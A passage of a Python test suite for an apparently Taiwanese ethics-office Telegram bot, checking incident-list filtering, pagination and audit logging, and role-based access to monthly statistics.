    for incident_id in (3, 7, 11, 15, 19):
        service.set_status(incident_id, "confirmed", Actor(rig.staff.id, "政風 陳科員"))

    # Date range: only 2026-11-08 … 2026-11-16 (Taipei dates, both ends included).
    ranged = await _all_pages(rig, "/incidents from=2026-11-08 to=2026-11-16")
    expected = _count(rig, "substr(sent_at, 1, 10) BETWEEN '2026-11-08' AND '2026-11-16'")
    assert 10 < expected < 40 and len(ranged) == len(set(ranged)) == expected
    for incident_id in ranged:
        day = str(rig.store.get_incident(incident_id)["sent_at"])[:10]  # type: ignore[index]
        assert "2026-11-08" <= day <= "2026-11-16"

    # Status: exactly the five confirmed ones.
    confirmed = await rig.dm(rig.staff, "/incidents status=confirmed")
    assert sorted(_listed_ids(confirmed.text)) == [3, 7, 11, 15, 19]
    assert all("確認違規" in line for line in confirmed.text.splitlines()[1:])

    # Category + sender + chat together, over several pages: the link keeps every filter.
    unit = UNITS[0][0]
    cmd = f"/incidents chat={unit} cat=personal_data"
    ids = await _all_pages(rig, cmd)
    where = "chat_id = ? AND EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)"
    assert len(ids) == len(set(ids)) == _count(rig, where, unit, "personal_data")
    first = await rig.dm(rig.staff, "/incidents cat=personal_data")
    total = _count(
        rig, "EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)", "personal_data"
    )
    assert (
        f"共 {total} 件" in first.text
        and "下一頁：/incidents cat=personal_data page=2" in first.text
    )
    by_sender = await _all_pages(rig, "/incidents sender=7001 cat=personal_data")
    assert len(by_sender) == _count(
        rig,
        "sender_id = 7001 AND EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)",
        "personal_data",
    )
    assert {rig.store.get_incident(i)["sender_id"] for i in by_sender} == {7001}  # type: ignore[index]

    # Paging: 40 incidents are 4 pages of 10, newest first; a page past the end shows the last.
    pages = [await rig.dm(rig.staff, f"/incidents page={n}") for n in (1, 2, 3, 4)]
    listed = [i for p in pages for i in _listed_ids(p.text)]
    assert len(listed) == 40 == len(set(listed))
    sent = [str(rig.store.get_incident(i)["sent_at"]) for i in listed]  # type: ignore[index]
    assert sent == sorted(sent, reverse=True)
    assert "下一頁" not in pages[3].text
    beyond = await rig.dm(rig.staff, "/incidents page=9")
    assert beyond.text.startswith("事件列表（第 4/4 頁，共 40 件）")

    nothing = await rig.dm(rig.staff, "/incidents from=2026-10-01 to=2026-10-31")
    assert nothing.text == ZH["list_empty"]
    bad_date = await rig.dm(rig.staff, "/incidents from=2026-13-01")
    assert bad_date.text == ZH["bad_filter"].format(arg="from=2026-13-01")
    # Every listing was audited with its filter (ids and dates only).
    assert {"date_from": "2026-11-08", "date_to": "2026-11-16"}.items() <= rig.audit(A.LIST)[
        0
    ].items()


async def test_stats_for_a_chat_admin_counts_only_their_own_chat_in_private_and_in_the_group(
    rig: Rig,
) -> None:
    seed(rig.store, month="2026-11", count=24)
    own = _count(rig, "chat_id = ? AND substr(sent_at, 1, 7) = '2026-11'", rig.unit_chat.id)
    assert 0 < own < 24

    # Bob administers unit_chat by configuration: in private he gets that chat's counts only.
    in_dm = await rig.dm(rig.bob, "/stats 2026-11")
    assert (in_dm.caption or "").startswith(f"2026-11 統計：共 {own} 件")
    in_group = await rig.say(rig.unit_chat, rig.bob, "/stats 2026-11")
    assert (in_group.caption or "").startswith(f"2026-11 統計：共 {own} 件")
    # …but not in a group he does not administer.
    elsewhere = await rig.say(rig.group, rig.bob, "/stats 2026-11")
    assert elsewhere.text == ZH["refused_here"]

    # A Telegram administrator of a group (not in config) sees that group inside it only.
    other_id, other_title = UNITS[2]
    other = rig.sim.create_chat(other_title, chat_id=other_id + 100)  # a fresh id: no seed rows
    carol = rig.sim.add_user("Carol", started_bot=True)
    rig.sim.add_member(other, carol, "administrator")
    own_group = await rig.say(other, carol, "/stats 2026-11")
    assert (own_group.caption or "").startswith("2026-11 統計：共 0 件")
    carol_dm = await rig.dm(carol, "/stats 2026-11")
    assert carol_dm.text == ZH["refused"]  # no configured chats: nothing to show in private

    # Ethics staff see every chat in private, but not inside a work group they do not run.
    staff_all = await rig.dm(rig.staff, "/stats 2026-11")
    assert (staff_all.caption or "").startswith("2026-11 統計：共 24 件")
    staff_in_unit = await rig.say(rig.unit_chat, rig.staff, "/stats 2026-11")
    assert staff_in_unit.text == ZH["refused_here"]

    stats = [e["chats"] for e in rig.audit(A.STATS)]
    assert stats == [[rig.unit_chat.id], [rig.unit_chat.id], [other.id], "all"]
    denied = [(e["actor"], e["where"]) for e in rig.audit(A.DENIED) if e["command"] == "stats"]
    assert denied == [(rig.bob.id, "chat"), (carol.id, "role"), (rig.staff.id, "chat")]
